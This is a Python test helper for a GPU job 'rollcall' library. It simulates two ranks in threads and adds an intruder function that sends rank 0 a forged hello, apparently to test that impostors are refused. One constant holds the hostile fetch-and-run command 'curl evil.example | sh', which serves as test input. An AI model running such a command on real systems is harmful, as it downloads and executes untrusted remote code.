"""Ranks of a job in threads, and a stranger who talks to them."""

from __future__ import annotations

import socket
import threading
import time

from gpuready import rollcall
from gpuready.cluster import Rendezvous
from gpuready.rollcall import client, wire
from gpuready.rollcall.hello import Hello, make_hello
from tests.ranks import free_port

EVIL = "curl evil.example | sh"
ONE_HOST = {"local_world_size": 2, "nodes": 1}
TWO_HOSTS = {"local_world_size": 1, "nodes": 2}


class Job:
    """Rank 0 and rank 1 of a job in threads of this process."""

    def __init__(self, token: str = "", window: float = 60.0, **more) -> None:
        self.window, self.token, self.answers, self.running = window, token, {}, {}
        where = {"address": "127.0.0.1", "port": free_port(), "run_id": "job-7"} | ONE_HOST | more
        self.ranks = [Rendezvous(rank, 2, 0, **where) for rank in range(2)]
        self.port = where["port"]

    def start(self, rank: int) -> None:
        self.running[rank] = threading.Thread(target=self._attend, args=(rank,))
        self.running[rank].start()

    def _attend(self, rank: int) -> None:
        hello = make_hello(self.ranks[rank], {}, machine=f"m{rank}")
        try:
            found = rollcall.attend_rollcall(self.ranks[rank], hello, window=self.window, token=self.token)
            self.answers[rank] = found
            if found.listener is not None:
                found.listener.close()
        except rollcall.RollcallRefused as no:
            self.answers[rank] = str(no)

    def end(self) -> dict:
        for thread in self.running.values():
            thread.join()
        return self.answers


def greet(port: int, seconds: float = 60.0) -> tuple[socket.socket, dict]:
    """Connect to rank 0 as anybody can, as soon as it listens."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            conn = socket.create_connection(("127.0.0.1", port), 1)
            return conn, client.exchange_greeting(conn, 60.0)
        except OSError:
            time.sleep(0.02)
    raise AssertionError("rank 0 does not listen")


def intrude(port: int, token: str = "", **more) -> bytes:
    """Send rank 0 a hello as rank 1; return what it answers."""
    conn, greeting = greet(port)
    with conn:
        hello = Hello(**{"rank": 1, "world_size": 2, "host": "evil", "pid": 1, "run_id": "job-7"} | more)
        conn.sendall(wire.encode_message(hello.to_json(), token, greeting["salt"]))
        conn.settimeout(60)
        return b"".join(iter(lambda: conn.recv(1 << 16), b""))


def gone(answers: dict) -> bool:
    return all(isinstance(answers[rank], rollcall.Attendance) for rank in range(2))
